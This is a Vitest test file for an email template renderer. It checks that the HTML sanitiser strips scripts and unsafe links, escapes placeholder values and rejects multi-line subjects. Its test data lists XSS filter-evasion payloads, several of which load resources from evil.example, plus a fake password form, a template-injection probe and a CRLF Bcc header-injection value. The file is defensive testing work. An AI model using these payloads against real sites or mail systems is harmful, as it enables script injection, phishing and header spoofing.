import { describe, expect, it } from 'vitest';
import { writeMail } from './mail-text';

const setting = {
  values: {
    'client.firstName': { type: 'text', value: 'Priya' },
    'event.date': { type: 'day', value: '2027-02-27' },
    'preset.hostile': {
      type: 'text',
      value: '<img src=x onerror=alert(1)>\r\nBcc: all@lists.example {{client.firstName}}',
    },
  },
  reader: { locale: 'en-GB', timeZone: 'Europe/Lisbon' },
  sender: 'Juniper & Light',
  button: { label: 'Open Wedding weekend', url: 'https://studio.example/f/abc' },
} as const;
const write = (htmlBody: string, subject = 'Hello') => writeMail({ subject, htmlBody }, setting);

/** The kinds of OWASP's cheat sheet on filter evasion. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input type=password><button>Sign in</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1) background="https://evil.example/x.gif">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="//evil.example/">',
  '<div style="background:url(https://evil.example/x.gif)">x</div>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</div></body></html><script>alert(1)</script>',
  '{{constructor.constructor}}',
  '{{preset.hostile}}',
];
const TAGS = new Set(
  ['html', 'head', 'meta', 'title', 'body', 'div', 'p', 'h2', 'ul', 'li', 'blockquote'].concat([
    'strong',
    'em',
    'br',
    'a',
  ]),
);
const ATTRIBUTES = new Set(['lang', 'charset', 'name', 'content', 'style', 'href', 'rel']);

describe('a mail', () => {
  it.each(payloads)('holds nothing that runs or loads: %s', (payload) => {
    const { html } = write(`<p>Before</p>${payload}<p>after</p>`);
    for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z0-9!]+)((?:\s+[^<>]*)?)>/gi)) {
      if (name.startsWith('!')) continue;
      expect(TAGS).toContain(name);
      for (const [, attribute] of attributes.matchAll(/([a-z-]+)="[^"]*"/g))
        expect(ATTRIBUTES).toContain(attribute);
      // The looks are those of the frame; nothing of what was written has one.
      expect(attributes).not.toMatch(/url\(|onerror|javascript:|data:/i);
    }
    expect(html.match(/<meta/g)).toHaveLength(2);
    expect(html).toContain('Before');
    for (const [, link = ''] of html.matchAll(/href="([^"]*)"/g))
      expect(link).toMatch(/^(https:|mailto:|tel:)/);
  });

  it('keeps what people write: emphasis, lists, safe links', () => {
    const { html, text } = write(
      '<p>Dear <b>{{ client.firstName }}</b>,</p><ul><li><a href="https://studio.example/why">One</a></li></ul>',
    );
    expect(html).toContain('<p>Dear <strong>Priya</strong>,</p>');
    expect(html).toContain('<li><a href="https://studio.example/why" rel="noopener noreferrer">One</a></li>');
    expect(html).toContain('href="https://studio.example/f/abc"');
    expect(text).toContain('Dear Priya,');
    expect(text).toContain('Open Wedding weekend: https://studio.example/f/abc');
  });

  it('writes values as text, and none of them as a variable or a header', () => {
    const { html, subject, missing } = write(
      '<p>{{preset.hostile}}</p>',
      '{{preset.hostile}} on {{event.date}}',
    );
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(subject).toBe(
      '<img src=x onerror=alert(1)> Bcc: all@lists.example {{client.firstName}} on 27 February 2027',
    );
    expect(subject).not.toMatch(/[\r\n]/);
    expect(missing).toEqual([]);
  });

  it('names what nobody knows', () => {
    expect(write('{{event.place}} {{constructor}}', '{{client.name}}').missing).toEqual([
      'client.name',
      'event.place',
      'constructor',
    ]);
  });

  it.each([
    ['a subject of two lines', 'Hello\r\nBcc: all@lists.example', '<p>x</p>', 'mailContent.subject'],
    ['a subject of nothing', '   ', '<p>x</p>', 'mailContent.subject'],
    ['no text', 'Hello', '<script>alert(1)</script> <p> </p>', 'mailContent.htmlBody'],
    ['too many paragraphs', 'Hello', '<p>x</p>'.repeat(201), 'mailContent.htmlBody'],
  ])('refuses %s', (_name, subject, htmlBody, field) => {
    expect(() => write(htmlBody, subject)).toThrow(
      expect.objectContaining({
        problem: expect.objectContaining({ errors: [expect.objectContaining({ field })] }),
      }),
    );
  });
});
